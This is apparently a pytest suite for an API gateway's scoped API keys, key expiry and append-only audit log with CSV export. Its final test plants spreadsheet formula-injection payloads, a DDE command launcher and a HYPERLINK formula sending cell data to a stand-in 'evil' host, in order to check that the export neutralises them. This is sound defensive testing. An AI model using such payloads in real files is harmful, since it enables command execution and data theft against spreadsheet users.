"""Scoped keys (admin, billing, read, app; expiry; several admin keys) and the audit log,
through the real app."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from litestar.testing import AsyncTestClient

from gateway.api.contract import OPERATIONS
from gateway.app import create_app
from gateway.db.models import AuditEntry
from tests.conftest import MutableClock, admin, unique_id


@pytest.fixture
async def app(gateway_factory: Any) -> Any:
    gw = gateway_factory()
    async with AsyncTestClient(app=create_app(gw)) as c:
        yield c


async def new_key(c: Any, kind: str, **extra: Any) -> dict[str, Any]:
    r = await c.post(
        "/v1/keys", json={"name": f"{kind} key", "kind": kind, **extra}, headers=admin()
    )
    assert r.status_code == 201, r.text
    assert r.json()["kind"] == kind
    return r.json()


def bearer(key: dict[str, Any], **extra: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key['key']}", **extra}


KINDS = ("app", "read", "billing", "admin")
# What each scope lets in (the contract's `x-ringside-scope`; docs/api.md's table).
LETS_IN = {
    "public": set(KINDS),
    "proxy": {"app", "admin"},
    "any": set(KINDS),
    "read": {"read", "billing", "admin"},
    "billing": {"billing", "admin"},
    "admin": {"admin"},
}


async def test_every_key_kind_on_every_route(app: Any) -> None:
    """Every operation of the contract, with every kind of key: refused (403
    insufficient_permissions, naming the scope) exactly when the contract says so."""
    keys = {kind: await new_key(app, kind) for kind in KINDS}
    wrong = []
    for op in OPERATIONS:
        path = re.sub(r"\{\w+\}", "x-nope", op.path)
        body = {} if op.method in ("POST", "PATCH", "PUT") else None
        for kind, key in keys.items():
            r = await app.request(op.method, path, json=body, headers=bearer(key))
            refused = r.status_code == 403 and (
                r.json()["error"]["code"] == "insufficient_permissions"
            )
            if refused == (kind in LETS_IN[op.scope]) or r.status_code == 401:
                wrong.append((op.method, op.path, kind, r.status_code, r.text[:120]))
            if refused:
                assert r.json()["error"]["required_scope"] == op.scope
    assert wrong == []


async def test_the_wrong_kind_names_the_scope_needed(app: Any) -> None:
    read = await new_key(app, "read")
    r = await app.post("/v1/customers", json={}, headers=bearer(read))
    err = r.json()["error"]
    assert r.status_code == 403 and err["code"] == "insufficient_permissions"
    assert err["required_scope"] == "billing" and err["key_kind"] == "read"
    assert "billing or admin" in err["message"]


async def test_keys_expire(app: Any, clock: MutableClock) -> None:
    r = await app.post(
        "/v1/keys", json={"name": "old", "expires_at": "2001-01-01T00:00:00Z"}, headers=admin()
    )
    assert r.status_code == 400 and r.json()["error"]["param"] == "expires_at"
    r = await app.post("/v1/keys", json={"name": "bad", "expires_at": "tomorrow"}, headers=admin())
    assert r.status_code == 400 and r.json()["error"]["param"] == "expires_at"
    soon = clock.now.replace(microsecond=0).isoformat()
    clock.advance(seconds=-3600)
    key = await new_key(app, "read", expires_at=soon)
    assert key["expires_at"].startswith(soon[:19])
    assert (await app.get("/v1/customers", headers=bearer(key))).status_code == 200
    clock.advance(seconds=3601)
    r = await app.get("/v1/customers", headers=bearer(key))
    assert r.status_code == 401 and r.json()["error"]["code"] == "api_key_expired"


async def test_several_admin_keys_and_the_bootstrap_key_stay_valid(app: Any) -> None:
    a1, a2 = await new_key(app, "admin"), await new_key(app, "admin")
    for headers in (bearer(a1), bearer(a2), admin()):
        r = await app.get("/v1/keys", headers=headers)
        assert r.status_code == 200
    r = await app.delete(f"/v1/keys/{a1['id']}", headers=bearer(a2))
    assert r.status_code == 200
    assert (await app.get("/v1/keys", headers=bearer(a1))).status_code == 401
    assert (await app.get("/v1/keys", headers=admin())).status_code == 200


# ---------------------------------------------------------------- the audit log


async def audit(c: Any, **params: str) -> list[dict[str, Any]]:
    r = await c.get("/v1/audit_log", params=params, headers=admin())
    assert r.status_code == 200, r.text
    return list(r.json()["data"])


async def test_a_billing_keys_topup_is_audited_with_its_balance(app: Any) -> None:
    billing = await new_key(app, "billing")
    r = await app.post(
        "/v1/customers",
        json={"external_id": unique_id("a"), "name": "Audited", "prepaid": True},
        headers=bearer(billing),
    )
    cus = r.json()
    for amount, key in ((10, "pay-1"), (2.5, "pay-2")):
        r = await app.post(
            f"/v1/customers/{cus['id']}/wallet/topup",
            json={"amount_usd": amount},
            headers=bearer(billing, **{"Idempotency-Key": key}),
        )
        assert r.status_code == 200
    request_id = r.headers["FC-Request-Id"]
    entries = await audit(app, customer_id=cus["id"], action="wallet.topup")
    assert [e["changes"]["balance_usd"] for e in entries] == [[10, 12.5], [0, 10]]
    last = entries[0]
    assert last["object"] == "audit_entry" and last["id"].startswith("aud_")
    assert (last["key_id"], last["key_kind"]) == (billing["id"], "billing")
    assert last["idempotency_key"] == "pay-2" and last["request_id"] == request_id
    assert last["ip"] is None  # the test client's host ("testclient") is not an address
    assert last["target_id"].startswith("txn_")
    # A replayed top-up changes nothing and adds no entry.
    r = await app.post(
        f"/v1/customers/{cus['id']}/wallet/topup",
        json={"amount_usd": 2.5},
        headers=bearer(billing, **{"Idempotency-Key": "pay-2"}),
    )
    assert r.headers["Idempotent-Replayed"] == "true"
    assert len(await audit(app, customer_id=cus["id"], action="wallet.topup")) == 2


async def test_customer_lifecycle_and_budget_changes(app: Any) -> None:
    r = await app.post(
        "/v1/customers",
        json={"external_id": unique_id("l"), "name": "Life", "monthly_budget_usd": 5},
        headers=admin(),
    )
    cus = r.json()
    cid = cus["id"]
    await app.patch(f"/v1/customers/{cid}", json={"monthly_budget_usd": 7.25}, headers=admin())
    await app.patch(f"/v1/customers/{cid}", json={"name": "Life"}, headers=admin())  # no change
    await app.patch(f"/v1/customers/{cid}", json={"status": "suspended"}, headers=admin())
    await app.delete(f"/v1/customers/{cid}", headers=admin())
    entries = await audit(app, customer_id=cus["external_id"])
    assert [e["action"] for e in entries] == [
        "customer.archived",
        "customer.suspended",
        "customer.updated",
        "customer.created",
    ]
    assert entries[2]["changes"] == {"monthly_budget_usd": [5, 7.25]}
    assert entries[3]["changes"]["monthly_budget_usd"] == [None, 5]
    assert entries[1]["changes"] == {"status": ["active", "suspended"]}
    # The bootstrap admin key: no key id.
    assert {(e["key_id"], e["key_kind"]) for e in entries} == {(None, "admin")}


async def test_a_refused_write_leaves_no_entry(app: Any) -> None:
    ext = unique_id("dup")
    await app.post("/v1/customers", json={"external_id": ext, "name": "A"}, headers=admin())
    before = AuditEntry.select().count()
    r = await app.post("/v1/customers", json={"external_id": ext, "name": "B"}, headers=admin())
    assert r.status_code == 409
    r = await app.patch("/v1/customers/" + ext, json={"status": "bogus"}, headers=admin())
    assert r.status_code == 400
    assert AuditEntry.select().count() == before


async def test_keys_plans_and_webhook_endpoints_are_audited(app: Any) -> None:
    key = await new_key(app, "app")
    await app.delete(f"/v1/keys/{key['id']}", headers=admin())
    plan = (await app.post("/v1/plans", json={"name": "P"}, headers=admin())).json()
    await app.patch(f"/v1/plans/{plan['id']}", json={"monthly_budget_usd": 3}, headers=admin())
    await app.delete(f"/v1/plans/{plan['id']}", headers=admin())
    ep = await app.post(
        "/v1/webhook_endpoints", json={"url": "https://example.com/hook"}, headers=admin()
    )
    assert ep.status_code == 201, ep.text
    eid = ep.json()["id"]
    await app.patch(f"/v1/webhook_endpoints/{eid}", json={"enabled": False}, headers=admin())
    await app.post(f"/v1/webhook_endpoints/{eid}/rotate_secret", json={}, headers=admin())
    await app.delete(f"/v1/webhook_endpoints/{eid}", headers=admin())
    actions = [e["action"] for e in reversed(await audit(app))]
    assert actions == [
        "key.created",
        "key.revoked",
        "plan.created",
        "plan.updated",
        "plan.deleted",
        "webhook_endpoint.created",
        "webhook_endpoint.updated",
        "webhook_endpoint.updated",
        "webhook_endpoint.deleted",
    ]
    entries = await audit(app, action="plan.updated")
    assert entries[0]["changes"] == {"monthly_budget_usd": [None, 3]}
    rotated = await audit(app, action="webhook_endpoint.updated")
    assert rotated[0]["changes"] == {"secret_rotated_grace_period_s": [None, 86400]}
    assert "whsec" not in str(await audit(app))


async def test_filters_pagination_and_csv(app: Any) -> None:
    for i in range(5):
        await app.post(
            "/v1/customers",
            json={"external_id": unique_id(f"p{i}"), "name": f"P{i}"},
            headers=admin(),
        )
    first = (await app.get("/v1/audit_log?limit=2", headers=admin())).json()
    assert first["has_more"] is True and len(first["data"]) == 2
    nxt = (
        await app.get(
            f"/v1/audit_log?limit=2&starting_after={first['data'][-1]['id']}", headers=admin()
        )
    ).json()
    assert {e["id"] for e in nxt["data"]}.isdisjoint({e["id"] for e in first["data"]})
    r = await app.get("/v1/audit_log?action=nope", headers=admin())
    assert r.status_code == 400 and r.json()["error"]["param"] == "action"
    r = await app.get("/v1/audit_log?since=2999-01-01", headers=admin())
    assert r.json()["data"] == []
    r = await app.get("/v1/audit_log", headers=admin({"Accept": "text/csv"}))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][:5] == ["id", "created", "key_id", "key_kind", "action"]
    assert len(rows) == 6 and all(row[4] == "customer.created" for row in rows[1:])


async def test_the_audit_log_cannot_be_changed_through_the_api(app: Any) -> None:
    for method in ("POST", "PATCH", "PUT", "DELETE"):
        r = await app.request(method, "/v1/audit_log", headers=admin())
        assert r.status_code == 405, (method, r.status_code)


async def test_the_audit_csv_neutralises_formulas(app: Any) -> None:
    r = await app.post(
        "/v1/customers",
        json={"external_id": unique_id("f"), "name": "=cmd|'/c calc'!A1"},
        headers=admin({"Idempotency-Key": '=HYPERLINK("http://evil/?x="&A1,"click")'}),
    )
    assert r.status_code == 201
    r = await app.get("/v1/audit_log", headers=admin({"Accept": "text/csv"}))
    rows = list(csv.reader(io.StringIO(r.text)))
    key_cell = rows[1][rows[0].index("idempotency_key")]
    assert key_cell.startswith("'=HYPERLINK")
    assert all(not cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row)
